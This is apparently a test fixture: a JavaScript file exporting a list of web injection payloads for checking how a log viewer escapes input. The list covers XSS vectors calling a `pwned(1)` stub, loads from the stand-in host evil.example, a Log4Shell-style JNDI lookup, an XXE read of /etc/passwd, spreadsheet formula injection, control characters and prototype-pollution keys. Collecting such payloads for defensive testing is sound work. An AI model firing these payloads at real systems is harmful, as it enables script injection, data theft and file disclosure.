// What people put into logs who want the reader's browser to do something. Each would call `pwned`, show a dialog, ask
// somebody else, or change what every object inherits.

const CALL = "pwned(1)";

const tags = [
    `<script>${CALL}</script>`, `<SCRIPT>${CALL}</SCRIPT>`, `<script >${CALL}</script >`, `<script/x>${CALL}</script>`, `<script\n>${CALL}</script>`,
    `<scr<script>ipt>${CALL}</scr</script>ipt>`, `<script src=//evil.example/x.js></script>`, `<script src="data:text/javascript,${CALL}"></script>`,
    `<script type=module>${CALL}</script>`, `<script type=text/vbscript>MsgBox 1</script>`, `</script><script>${CALL}</script>`, `</style><script>${CALL}</script>`,
    `</title><script>${CALL}</script>`, `</textarea><script>${CALL}</script>`, `</pre><script>${CALL}</script>`, `</noscript><script>${CALL}</script>`,
    `--><script>${CALL}</script><!--`, `]]><script>${CALL}</script>`, `<!--<script>${CALL}//-->`, `<![CDATA[<script>${CALL}</script>]]>`,
    `<img src=x onerror=${CALL}>`, `<img src=x onerror="${CALL}">`, `<img/src=x/onerror=${CALL}>`, `<img src=x onerror=${CALL}//`, `<IMG SRC=x OnErRoR=${CALL}>`,
    `<img src=//evil.example/pixel.gif>`, `<img srcset="//evil.example/a 1x">`, `<img src="x\` \`<script>${CALL}</script>">`, `<img """><script>${CALL}</script>">`, `<image src=x onerror=${CALL}>`,
    `<body onload=${CALL}>`, `<body onpageshow=${CALL}>`, `<body background=//evil.example/b>`, `<iframe src="javascript:${CALL}"></iframe>`,
    `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`, `<iframe src=//evil.example></iframe>`, `<frameset onload=${CALL}>`, `<object data="javascript:${CALL}">`,
    `<object data=//evil.example/x.swf>`, `<embed src="javascript:${CALL}">`, `<embed src=//evil.example>`, `<applet code=x>`, `<base href=//evil.example/>`,
    `<link rel=stylesheet href=//evil.example/x.css>`, `<link rel=prefetch href=//evil.example>`, `<link rel=import href=data:text/html,x>`,
    `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`, `<meta http-equiv=refresh content="0;url=//evil.example">`, `<meta http-equiv=set-cookie content=a=b>`,
    `<style>@import '//evil.example/x.css'</style>`, `<style>body{background:url(//evil.example/x)}</style>`, `<style>*{color:expression(${CALL})}</style>`,
    `<form action="javascript:${CALL}"><input type=submit autofocus></form>`, `<form><button formaction="javascript:${CALL}">x</button></form>`, `<isindex type=image src=1 onerror=${CALL}>`,
    `<input autofocus onfocus=${CALL}>`, `<input onblur=${CALL} autofocus><input autofocus>`, `<select autofocus onfocus=${CALL}>`, `<textarea autofocus onfocus=${CALL}>`, `<keygen autofocus onfocus=${CALL}>`,
    `<button autofocus onfocus=${CALL}>x</button>`, `<details open ontoggle=${CALL}>`, `<dialog open onclose=${CALL}>`, `<marquee onstart=${CALL}>x</marquee>`, `<marquee loop=1 width=0 onfinish=${CALL}>`,
    `<video src=x onerror=${CALL}>`, `<video><source onerror=${CALL}></video>`, `<video poster="javascript:${CALL}">`, `<audio src=x onerror=${CALL}>`, `<audio autoplay onloadstart=${CALL}><source src=x></audio>`,
    `<table background="javascript:${CALL}">`, `<td background=//evil.example>`, `<template><script>${CALL}</script></template>`, `<slot onslotchange=${CALL}>`, `<portal src=//evil.example>`,
    `<p onmouseover=${CALL}>over me</p>`, `<div onpointerrawupdate=${CALL}>over me</div>`, `<div style="position:fixed;inset:0;width:9999px;height:9999px" onmousemove=${CALL}>x</div>`, `<x contenteditable onblur=${CALL} tabindex=0>x</x>`,
    `<x onanimationstart=${CALL} style="animation:a 1s">`, `<x ontransitionend=${CALL} style="transition:1s">`, `<a href="javascript:${CALL}">x</a>`, `<a href=//evil.example target=_blank ping=//evil.example/p>x</a>`, `<a id=x tabindex=1 onfocus=${CALL}>x</a>`,
    `<xss id=x tabindex=1 onactivate=${CALL}>`, `<custom-element onclick=${CALL}>x</custom-element>`, `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`, `<xmp><img src=x onerror=${CALL}></xmp>`, `<plaintext>`, `<listing><img src=x onerror=${CALL}>`,
];
const drawings = [
    `<svg onload=${CALL}>`, `<svg/onload=${CALL}>`, `<svg><script>${CALL}</script></svg>`, `<svg><script href="data:,${CALL}"/></svg>`, `<svg><script xlink:href=//evil.example/x.js></script></svg>`,
    `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`, `<svg><set onbegin=${CALL} attributename=x>`, `<svg><a xlink:href="javascript:${CALL}"><text y=20>x</text></a></svg>`, `<svg><use href="data:image/svg+xml,<svg id=x onload=${CALL}>#x"/></svg>`,
    `<svg><image href=//evil.example/x onerror=${CALL} /></svg>`, `<svg><foreignObject><body onload=${CALL}></foreignObject></svg>`, `<svg><style><img src=x onerror=${CALL}></style></svg>`, `<svg><desc><![CDATA[</desc><script>${CALL}</script>]]></svg>`,
    `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event=load>${CALL}</handler></svg>`, `<svg><discard onbegin=${CALL}>`, `<svg></p><style><a id="</style><img src=1 onerror=${CALL}>">`, `<math><mtext><table><mglyph><style><img src=x onerror=${CALL}>`,
    `<math href="javascript:${CALL}">x</math>`, `<math><maction actiontype="statusline#//evil.example" xlink:href="javascript:${CALL}">x</maction></math>`, `<math><annotation-xml encoding="text/html"><img src=x onerror=${CALL}></annotation-xml></math>`, `<?xml-stylesheet href="javascript:${CALL}"?>`,
    `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`, `<svg><filter><feImage href=//evil.example/x></filter></svg>`,
];
const attributes = [
    `" onmouseover=${CALL} x="`, `' onmouseover=${CALL} x='`, `" autofocus onfocus=${CALL} "`, `' autofocus onfocus=${CALL} '`, `"><script>${CALL}</script>`, `'><script>${CALL}</script>`, `"/><img src=x onerror=${CALL}>`,
    `\` onmouseover=${CALL}`, `x onerror=${CALL}`, `" style="background:url(//evil.example)"`, `" style="animation-name:rise" onanimationstart="${CALL}`, `"><svg onload=${CALL}>`, `" accesskey=x onclick=${CALL} "`, `';${CALL};'`, `";${CALL};"`, `\\";${CALL};//`, `\\';${CALL};//`,
    `</script><svg onload=${CALL}>`, `"]');${CALL};('["`, `translateY(0);background:url(//evil.example)`, `s0" onload="${CALL}`, `0%;background:url(//evil.example)`, `[data-key="x"]`, `#/live`, `u1`,
];
const addresses = [
    `javascript:${CALL}`, `JaVaScRiPt:${CALL}`, `java\tscript:${CALL}`, `java\nscript:${CALL}`, ` javascript:${CALL}`, `\u0001javascript:${CALL}`, `javascript://%0a${CALL}`, `javascript:/*--></title></style></textarea></script><svg onload=${CALL}>*/${CALL}`, `vbscript:msgbox(1)`,
    `data:text/html,<script>${CALL}</script>`, `data:text/html;base64,PHNjcmlwdD5wd25lZCgxKTwvc2NyaXB0Pg==`, `data:image/svg+xml,<svg onload=${CALL}>`, `blob:null/x`, `file:///etc/passwd`, `//evil.example/x`, `\\\\evil.example\\x`, `/\\evil.example`, `https://evil.example/?c=`,
    `http://evil.example#@127.0.0.1`, `view-source:http://127.0.0.1`, `feed:javascript:${CALL}`, `jar:http://evil.example!/x`, `&#106;avascript:${CALL}`, `&#x6A&#x61&#x76&#x61script:${CALL}`, `%6aavascript:${CALL}`, `mhtml:http://evil.example`, `filesystem:http://evil.example/x`, `about:blank#${CALL}`,
];
const templates = [
    `{{constructor.constructor('${CALL}')()}}`, `{{7*7}}`, `\${${CALL}}`, `#{${CALL}}`, `<%= ${CALL} %>`, `{%raw%}{{x}}{%endraw%}`, `{{{x}}}`, `[[${CALL}]]`, `@(${CALL})`, `*{${CALL}}`, `\${jndi:ldap://evil.example/x}`, `\${env:HOME}`, `%{(#x)}`, `{{$on.constructor('${CALL}')()}}`, `<div v-html="'<img src=x onerror=${CALL}>'"></div>`,
    `<div ng-app ng-csp>{{$eval.constructor('${CALL}')()}}</div>`, `<x x-data x-init="${CALL}">`, `<div hx-get=//evil.example hx-trigger=load>`, `$(${CALL})`, `\`\${${CALL}}\``, `eval('${CALL}')`, `setTimeout('${CALL}')`, `import('//evil.example/x.js')`, `;${CALL};//`, `*/${CALL}/*`, `%s%s%n%x`, `%c${CALL}`, `'+${CALL}+'`, `"-${CALL}-"`,
];
const encodings = [
    `&lt;script&gt;${CALL}&lt;/script&gt;`, `&#60;script&#62;${CALL}&#60;/script&#62;`, `\\u003cscript\\u003e${CALL}\\u003c/script\\u003e`, `\\x3cscript\\x3e${CALL}\\x3c/script\\x3e`, `%3Cscript%3E${CALL}%3C/script%3E`, `%253Cscript%253E`, `+ADw-script+AD4-${CALL}+ADw-/script+AD4-`,
    `\uff1cscript\uff1e${CALL}\uff1c/script\uff1e`, `\u2039script\u203a${CALL}`, `\u02c2script\u02c3`, `<\u0000script>${CALL}</script>`, `<script\u0000>${CALL}</script>`, `<scr\u0000ipt>${CALL}</script>`, `<\u200bscript>${CALL}</script>`, `\ufeff<script>${CALL}</script>`, `<\u017fcript>${CALL}</\u017fcript>`,
    `<img\u000csrc=x\u000conerror=${CALL}>`, `<img\u000bsrc=x onerror=${CALL}>`, `<svg\u00a0onload=${CALL}>`, `<svg\u2028onload=${CALL}>`, `\u2028${CALL}`, `\u2029${CALL}`, `\u0085${CALL}`, `\ud83d\ude00<script>${CALL}</script>`, `a\u0300\u0301\u0302<img src=x onerror=${CALL}>`, `I\u0307<svg onload=${CALL}>`, `\ufdfd`.repeat(30),
];
const controls = [
    "\u001b[31mred\u001b[0m", "\u001b]0;title\u0007", "\u001b]8;;javascript:pwned(1)\u001b\\link\u001b]8;;\u001b\\", "\u001b[2J\u001b[H", "\u009b31m", "\u0007\u0007\u0007", "over\rwritten", "back\b\b\b\bspace", "null\u0000byte", "\u202egnp.exe", "\u202dforced", "\u2066isolated\u2069", "\u200f\u200erl", "\u061carabic",
    "user\u202e\u2066// admin\u2069 \u2066", "zero\u200bwidth\u200cjoin\u200d", "\u2060word", "soft\u00adhyphen", "line\nfeed\nINFO forged line", "tab\tseparated", "\u{e0001}\u{e0041}tags", "\u{1f468}\u200d\u{1f469}\u200d\u{1f467}", "\ufff9anchor\ufffa", "\u007fdelete",
];
const sheets = ["=1+1", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", `=HYPERLINK("http://evil.example","x")`, `=IMPORTXML("http://evil.example","//a")`, "\t=1+1", "\r=1+1", `"=1+1"`, `;=1+1`, "%0A=1+1", `=WEBSERVICE("http://evil.example")`, "＝1+1"];
const names = [
    "__proto__", "constructor", "prototype", "__defineGetter__", "__defineSetter__", "__lookupGetter__", "hasOwnProperty", "toString", "valueOf", "toJSON", "then", "length", "__proto__.polluted", "constructor.prototype.polluted", "__proto__[polluted]", "innerHTML", "outerHTML", "srcdoc", "onerror", "onclick", "style", "href", "class", "id", "data-test",
    "window", "document", "location", "name", "nodeName", "attributes", "childNodes", "parentNode", "submit", "action", "Symbol(Symbol.iterator)", "undefined", "null", "NaN", "-0", "1e309", "fields", "fields.number", "..", ".", "a.b.c", "", " ", "\"", "\\", "'", "`", "(", ")", "-has:x", "a OR b", "NOT", "\"unclosed", "x~/(a+)+$/", "since:never",
];

export const PAYLOADS = [...new Set([tags, drawings, attributes, addresses, templates, encodings, controls, sheets, names].flat())];
